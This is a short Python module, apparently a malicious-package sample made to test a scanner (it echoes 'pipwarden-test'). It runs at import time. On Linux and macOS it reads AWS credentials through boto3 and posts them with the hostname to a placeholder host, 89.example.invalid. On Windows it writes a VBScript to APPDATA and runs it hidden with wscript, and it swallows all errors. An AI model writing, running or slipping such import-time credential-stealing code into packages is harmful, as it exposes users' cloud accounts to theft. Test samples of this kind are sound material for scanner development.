import json
import os
import platform
import tempfile
import urllib.request


def _aws():
    try:
        import boto3

        c = boto3.Session().get_credentials()
        if c is None:
            return None
        f = c.get_frozen_credentials()
        return {"AccessKeyId": f.access_key, "SecretAccessKey": f.secret_key, "Token": f.token}
    except Exception:
        return None


def _linux():
    creds = _aws()
    if creds:
        data = json.dumps({"creds": creds, "host": platform.node()}).encode()
        urllib.request.urlopen(urllib.request.Request("http://89.example.invalid/fab", data=data), timeout=5)


def _windows():
    vbs = os.path.join(os.getenv("APPDATA", tempfile.gettempdir()), "p.vbs")
    with open(vbs, "w") as f:
        f.write('CreateObject("WScript.Shell").Run "cmd /c echo pipwarden-test", 0\n')
    os.system(f'wscript.exe "{vbs}"')


try:
    _windows() if os.name == "nt" else _linux()
except Exception:
    pass
